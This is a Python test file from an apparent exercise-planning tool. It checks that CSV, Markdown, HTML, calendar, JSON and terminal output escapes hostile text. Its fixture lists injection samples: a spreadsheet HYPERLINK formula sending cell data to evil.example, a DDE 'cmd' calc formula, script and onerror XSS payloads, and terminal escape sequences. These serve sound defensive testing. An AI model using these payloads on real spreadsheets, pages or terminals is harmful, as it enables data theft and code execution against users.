"""Catalogue and log text is data in every format: hostile text, exactly and at random.

One builder makes a catalogue, a plan, a week, a log and a report whose every free-text
slot (names, aliases, steps, cues, notes, reasons, source titles and URLs, the log's
exercises, notes and red flags, check-in activities) is filled by a function. Filled with
plain words it gives the *shape* of each output; filled with hostile text (spreadsheet
formulas, HTML, Markdown links and emphasis, rich markup), each output must keep that
shape: data never makes a tag, a link, a row or a column, and a spreadsheet never runs it.

The exact outputs for the hostile fixture live in tests/expected/hostile-*; rewrite them
with ``KNEEFIT_UPDATE_EXPECTED=1 pytest tests/test_escaping.py --no-cov`` and read the diff.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta, timezone
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kneefit.catalogue import Catalogue
from kneefit.cautions import ConditionNote
from kneefit.exclusions import RuledOut
from kneefit.log import CheckIn
from kneefit.models import (
    Condition,
    Day,
    DayFocus,
    Exclusion,
    Exercise,
    LoggedExercise,
    PainRule,
    PlannedExercise,
    PlanRequest,
    Progression,
    RedFlag,
    Restriction,
    Routine,
    Safety,
    Schedule,
    Section,
    SectionKind,
    Session,
    Source,
    Step,
)
from kneefit.reasons import Changed, ChangeKind, ClearedByClinician, RedFlagStands, Shortened
from kneefit.render import RenderOptions, renderer_for
from kneefit.render.escaping import FORMULA_START, csv_text, md, plain, url_text
from kneefit.report import build_report
from kneefit.schedule import single
from kneefit.vocabulary import Format
from tests.test_render import EXPECTED, _check

START = date(2026, 11, 30)
MADE = datetime(2026, 11, 29, 18, 0, 0, tzinfo=timezone.utc)

#: Fills one free-text slot: called with the slot's kind ("name", "text", "sentence", "url",
#: "typed"), in the same order for every filling, so two fillings give the same shape.
Fill = Callable[[str], str]


@dataclass(frozen=True)
class World:
    catalogue: Catalogue
    plan: Schedule
    week: Schedule
    sessions: list[Session]
    checkins: list[CheckIn]
    person: str


def build(fill: Fill) -> World:
    """Everything a renderer is given, every free text from ``fill``."""
    sources = (
        Source(id="s-web", title=fill("text"), publisher=fill("text"), year=2024, url=fill("url")),
        Source(
            id="s-book", title=fill("text"), publisher=fill("text"), year=2020, note=fill("text")
        ),
    )
    ids = ("s-web", "s-book")
    strength = Exercise(
        id="sit-to-stand",
        name=fill("name"),
        aliases=(fill("name"), fill("name")),
        category="strength",
        primary_muscles=("quadriceps",),
        equipment=("chair",),
        level="beginner",
        knee_load=("weight-bearing",),
        dose={"sets": 3, "reps": 10, "rest_seconds": 60, "days_per_week": 3},
        steps=(fill("sentence"), fill("sentence")),
        cues=(fill("sentence"),),
        notes=fill("text"),
        harder="wall-sit",
        sources=ids,
    )
    hold = Exercise(
        id="wall-sit",
        name=fill("name"),
        category="strength",
        primary_muscles=("quadriceps",),
        level="beginner",
        dose={"hold_seconds": 20, "sets": 3, "days_per_week": 3},
        steps=(fill("sentence"),),
        easier="sit-to-stand",
        sources=ids,
    )
    condition = Condition(
        id="arthritis",
        name=fill("name"),
        aliases=(fill("name"),),
        rules_out=(Restriction(tags=("kneeling",), reason=fill("text")),),
        see_clinician_first=True,
        notes=(fill("text"), fill("text")),
        sources=ids,
    )
    safety = Safety(
        pain_rule=PainRule(
            safe_max=2,
            acceptable_max=5,
            safe=fill("text"),
            acceptable=fill("text"),
            stop=fill("text"),
            next_morning=fill("text"),
        ),
        discomfort_vs_pain=fill("text"),
        see_clinician_first=fill("text"),
        red_flags=(
            RedFlag(
                id="locks", sign=fill("text"), urgency="urgent", action=fill("text"), sources=ids
            ),
        ),
        persistent_pain=fill("text"),
        sources=ids,
    )
    catalogue = Catalogue(
        sources={s.id: s for s in sources},
        exercises={e.id: e for e in (strength, hold)},
        conditions={condition.id: condition},
        safety=safety,
    )
    sections = (
        Section(
            kind=SectionKind.STRENGTH,
            items=(
                PlannedExercise(exercise=strength, dose=strength.dose, minutes=4),
                PlannedExercise(exercise=hold, dose=hold.dose, minutes=2),
            ),
        ),
    )
    routine = Routine(
        request=PlanRequest(conditions=("arthritis",), equipment=frozenset({"chair"}), minutes=10),
        conditions=(condition,),
        sections=sections,
        estimated_minutes=6,
        warnings=(ConditionNote(fill("text")),),
        excluded=(
            Exclusion(
                id="kneeling-lunge",
                name=fill("name"),
                reasons=(RuledOut("Osteoarthritis", (), fill("text")),),
            ),
        ),
        safety=safety,
        sources=sources,
        progression=Progression(
            step=Step.HOLD,
            stage=0,
            reasons=(
                ClearedByClinician(START, fill("text")),
                RedFlagStands(START, (fill("text"),)),
            ),
            changes=(
                Changed(ChangeKind.DOSE, fill("name"), fill("name"), strength.dose, strength.dose),
            ),
        ),
    )
    week = Schedule(
        routine=routine,
        days_per_week=1,
        weeks=2,
        start=START,
        at=time(7, 30),
        made=MADE,
        days=(
            Day(week=1, day=1, date=START, focus=DayFocus.STRENGTH, sections=sections),
            Day(week=1, day=2, date=START + timedelta(days=1), focus=DayFocus.REST),
            Day(
                week=2,
                day=1,
                date=START + timedelta(days=7),
                focus=DayFocus.STRENGTH,
                sections=sections,
            ),
        ),
        week_notes=(Shortened(2, 3, (fill("text"),)),),
    )
    sessions = [
        Session(
            date=START - timedelta(days=6),
            pain=2,
            effort=5,
            next_morning_pain=1,
            exercises=(LoggedExercise(id="sit-to-stand", name=fill("typed"), dose=fill("typed")),),
            notes=fill("typed"),
        ),
        Session(
            date=START - timedelta(days=4),
            pain=3,
            effort=6,
            notes=fill("typed"),
            red_flags=(fill("typed"), fill("typed")),
            stage=1,
        ),
    ]
    # Two activities, never the same (a check-in would take them as one).
    stairs, walking = fill("typed") + " (1)", fill("typed") + " (2)"
    checkins = [
        CheckIn(START - timedelta(days=13), 6, ((stairs, 3), (walking, 5)), 9),
        CheckIn(START - timedelta(days=1), 3, ((stairs, 6), (walking, 7)), 13),
    ]
    plan = single(routine, START, at=time(7, 30), made=MADE)
    return World(catalogue, plan, week, sessions, checkins, fill("typed"))


_COUNT = itertools.count(1)


def _plain_fill(kind: str) -> str:
    """Plain words, each different (as two check-in activities are)."""
    n = next(_COUNT)
    return {
        "name": f"Plain name {n}",
        "sentence": f"Plain sentence {n}.",
        "url": f"https://example.org/plain{n}",
    }.get(kind, f"plain words {n}")


#: What a hostile catalogue or log holds: formulas, HTML, Markdown, rich markup, entities.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    " =1+1 after a space",
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "**bold** _italic_ `code` ~~gone~~ *star*",
    "# Heading",
    "1. not a list",
    "- not a bullet",
    "> not a quote",
    "| not | a table |",
    "&lt;b&gt; &#60;i&#62; & plain",
    "[bold red]rich markup[/bold red] :smile:",
    "back\\slash <https://evil.example/>",
    "\tTab first",
    "Line one\nLine two",
)
HOSTILE_URLS = (
    'https://example.org/a"><script>alert(1)</script>',
    "https://example.org/x'onmouseover='alert(1)'<b>",
)


def _hostile_fill() -> Fill:
    texts = itertools.cycle(HOSTILE)
    urls = itertools.cycle(HOSTILE_URLS)

    def fill(kind: str) -> str:
        if kind == "url":
            return next(urls)
        text = next(texts)
        if kind == "sentence":
            return f"A {text}."
        return text

    return fill


PLAIN = build(_plain_fill)
HOSTILE_WORLD = build(_hostile_fill())

OPTIONS = RenderOptions(width=100)
WHAT: dict[str, Callable[[Format, World], str]] = {
    "plan": lambda f, w: renderer_for(f, OPTIONS).plan(w.plan),
    "week": lambda f, w: renderer_for(f, OPTIONS).plan(w.week),
    "list": lambda f, w: renderer_for(f, OPTIONS).exercises(
        list(w.catalogue.exercises.values()), w.catalogue
    ),
    "show": lambda f, w: renderer_for(f, OPTIONS).exercise(
        w.catalogue.exercises["sit-to-stand"], w.catalogue
    ),
    "conditions": lambda f, w: renderer_for(f, OPTIONS).conditions(
        list(w.catalogue.conditions.values()), w.catalogue
    ),
    "history": lambda f, w: renderer_for(f, OPTIONS).history(w.sessions),
    "explain": lambda f, w: renderer_for(f, RenderOptions(width=100, explain=True)).plan(w.plan),
}
PLANS = ("plan", "week")


def _report(world: World, fmt: str) -> str:
    report = build_report(
        world.sessions, world.checkins, 3, START - timedelta(days=14), START, person=world.person
    )
    return renderer_for(Format(fmt), OPTIONS).report(report)


def outputs(world: World) -> Iterator[tuple[str, str, str]]:
    """(format, what, text) for every renderer and everything it renders."""
    for fmt in Format:
        if fmt in (Format.PDF, Format.SVG, Format.FHIR):
            # The PDF is the html handout laid out; svg draws a name in its title; fhir is
            # the report's alone (below).
            continue
        for what, render in WHAT.items():
            if fmt in (Format.HTML, Format.ICS) and what not in PLANS:
                continue
            if what == "explain" and fmt not in (Format.TEXT, Format.TABLE, Format.MARKDOWN):
                continue
            yield fmt.value, what, render(fmt, world)
    for name in ("text", "markdown", "json", "csv", "html", "fhir"):
        yield name, "report", _report(world, name)
    for name in ("text", "markdown", "json", "csv"):
        yield name, "checkins", renderer_for(Format(name), OPTIONS).checkins(world.checkins)


# ---------------------------------------------------------------------- what each format keeps


_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_problems(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character, not a number."""
    rows = list(csv.reader(io.StringIO(text)))
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" ")[:1] in FORMULA_START and not _NUMBER.fullmatch(cell)
    ]


def csv_shape(text: str) -> list[int]:
    return [len(row) for row in csv.reader(io.StringIO(text))]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag + "".join(sorted(f" {name}" for name, _ in attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.tags.append("/" + tag)


def html_tags(page: str) -> list[str]:
    """Every tag of a page, with its attribute names, in order."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.tags


_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
#: An autolink as kneefit writes one: nothing in it can end it early.
_AUTOLINK = re.compile(r"<https?://[^\s<>\"'`\\]*>")


def markdown_tags(text: str) -> list[str]:
    return html_tags(_MARKDOWN.render(text))


def raw_angles(text: str) -> str:
    """What is left of ``<`` once escaped ones and kneefit's own autolinks are taken out."""
    return _AUTOLINK.sub("", text.replace("\\<", "")).count("<") * "<"


def ics_shape(text: str) -> list[tuple[str | None, list[str]]]:
    from icalendar import Calendar

    calendar = Calendar.from_ical(text)
    return [(c.name, sorted(c.keys())) for c in calendar.walk()]


_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def check_world(world: World) -> None:
    """Every output of ``world`` has the shape of the plain world's, and is safe for where it
    will be opened."""
    plain_outputs = {(f, w): t for f, w, t in outputs(PLAIN)}
    for fmt, what, text in outputs(world):
        where = f"{fmt} {what}"
        shape = plain_outputs[(fmt, what)]
        if fmt == "csv":
            assert csv_problems(text) == [], where
            assert csv_shape(text) == csv_shape(shape), where
        elif fmt == "markdown":
            assert raw_angles(text) == "", where
            assert markdown_tags(text) == markdown_tags(shape), where
        elif fmt == "html":
            assert html_tags(text) == html_tags(shape), where
        elif fmt == "ics":
            assert ics_shape(text) == ics_shape(shape), where
        elif fmt == "json":
            json.loads(text)
        elif fmt == "fhir":  # JSON that FHIR's models take, entries as in the plain world's
            from fhir.resources.R4B.bundle import Bundle

            Bundle.model_validate_json(text)
            kinds = [e["resource"]["resourceType"] for e in json.loads(text)["entry"]]
            assert kinds == [e["resource"]["resourceType"] for e in json.loads(shape)["entry"]]
        else:  # text and table: for a terminal
            assert not _CONTROL.search(text), where


def test_plain_words_make_the_shape_of_every_output() -> None:
    # The check itself can fail: a cell starting with '=' is caught, a tag from data is seen.
    assert csv_problems("a,=1\n") == ["=1"] and csv_problems("a,-1,'=1\n") == []
    assert markdown_tags("*x*") != markdown_tags("x")
    assert raw_angles("<b> \\<i\\> <https://e.org/a%22>") == "<"
    check_world(PLAIN)


def test_hostile_text_stays_data_in_every_format() -> None:
    check_world(HOSTILE_WORLD)


# Text the models accept: any printable character, tabs and line breaks; weighted towards
# what means something to a spreadsheet, to Markdown, to HTML or to rich.
_SPECIAL = "=+-@<>[](){}`*_~!#&|\\\"';:/.%\t\n 0123456789"
_CHARS = st.one_of(
    st.sampled_from(_SPECIAL),
    st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\u2028\u2029"),
)
_TEXT = st.text(_CHARS, min_size=1, max_size=40).filter(lambda t: t.strip() != "")
_STRATEGIES = {
    "name": _TEXT,
    "text": _TEXT,
    "typed": st.text(_CHARS, max_size=40),
    "sentence": _TEXT.map(lambda t: f"A {t}."),
    "url": st.text(_CHARS.filter(lambda c: not c.isspace()), max_size=30).map(
        lambda t: "https://example.org/" + t
    ),
}


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_random_text_stays_data_in_every_format(data: st.DataObject) -> None:
    try:
        world = build(lambda kind: data.draw(_STRATEGIES[kind], label=kind))
    except ValueError:  # text the models refuse (a bidi control, say) is not a renderer's
        return
    check_world(world)


# ---------------------------------------------------------------------- exact hostile outputs

EXACT = [
    (fmt, what)
    for fmt in ("csv", "markdown", "text", "table")
    for what in ("plan", "show", "conditions", "history")
]
EXACT += [(fmt, "report") for fmt in ("csv", "markdown", "text")]
EXACT += [(fmt, "checkins") for fmt in ("csv", "markdown")]
SUFFIX = {"csv": ".csv", "markdown": ".md"}
#: The expected files these tests own (tests/test_render.py checks none is left unused).
EXACT_FILES = [f"hostile-{fmt}-{what}{SUFFIX.get(fmt, '.txt')}" for fmt, what in EXACT]


@pytest.mark.parametrize(("fmt", "what"), EXACT)
def test_hostile_output_is_exactly_as_expected(fmt: str, what: str) -> None:
    found = {(f, w): t for f, w, t in outputs(HOSTILE_WORLD)}
    _check(f"hostile-{fmt}-{what}{SUFFIX.get(fmt, '.txt')}", found[(fmt, what)])


def test_the_hostile_url_cannot_end_its_markdown_autolink() -> None:
    shown = WHAT["show"](Format.MARKDOWN, HOSTILE_WORLD)
    assert "<https://example.org/a%22%3E%3Cscript%3Ealert(1)%3C/script%3E>" in shown
    assert "<script" not in _MARKDOWN.render(shown)
    # Encoded stays encoded; a square bracket after the host never makes a link again.
    assert url_text("https://e.org/a%20b?q=1&r=[2]") == "https://e.org/a%20b?q=1&r=%5B2%5D"


def test_markdown_escapes_what_commonmark_would_read() -> None:
    assert md("1. one") == "1\\. one" and md("- x") == "\\- x" and md("+1") == "\\+1"
    assert md("a - b 2. c") == "a - b 2. c"  # only a line's start begins a block
    assert md("<b>") == "\\<b\\>" and md("[a](b)") == "\\[a\\](b)"
    assert md("&amp; & x") == "\\&amp; & x"
    assert md("*a* _b_ `c` ~d~ | # !") == "\\*a\\* \\_b\\_ \\`c\\` \\~d\\~ \\| \\# \\!"
    assert _MARKDOWN.render(md("Line one\nLine two")).count("<p>") == 1


def test_csv_text_guards_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", " ="):
        assert csv_text(start + "1") == "'" + start + "1"
    assert csv_text("Sit to stand") == "Sit to stand" and csv_text("") == ""


def test_control_characters_never_reach_a_terminal() -> None:
    # The models refuse them; model_copy skips validation, as a future bug might.
    exercise = HOSTILE_WORLD.catalogue.exercises["sit-to-stand"].model_copy(
        update={"name": "Evil\x1b]0;title\x07\x1b[2J\x9b31m", "steps": ("Step\x1b[1A.",)}
    )
    for fmt in (Format.TEXT, Format.TABLE):
        shown = renderer_for(fmt, OPTIONS).exercise(exercise, HOSTILE_WORLD.catalogue)
        assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown, fmt
        assert "Evil\ufffd]0;title" in shown
    coloured = renderer_for(Format.TABLE, RenderOptions(width=100, color=True))
    shown = coloured.exercise(exercise, HOSTILE_WORLD.catalogue)
    assert "\x1b[2J" not in shown and "\x1b]0" not in shown and "\x1b[" in shown
    assert plain("a\x1bb", ascii_only=True) == "a?b"
    # Markdown is often read in a terminal too.
    shown = renderer_for(Format.MARKDOWN, OPTIONS).exercise(exercise, HOSTILE_WORLD.catalogue)
    assert "\x1b" not in shown and "Evil\ufffd\\]0;title" in shown


def test_rich_markup_in_data_is_shown_as_written() -> None:
    exercise = PLAIN.catalogue.exercises["sit-to-stand"].model_copy(
        update={"name": "[bold red]Red[/bold red] :smile:"}
    )
    for color in (False, True):
        options = RenderOptions(width=100, color=color)
        shown = renderer_for(Format.TABLE, options).exercise(exercise, PLAIN.catalogue)
        assert "[bold red]" in shown and "[/bold red] :smile:" in shown


def test_expected_hostile_files_exist() -> None:
    missing = [name for name in EXACT_FILES if not (EXPECTED / name).exists()]
    assert missing == []
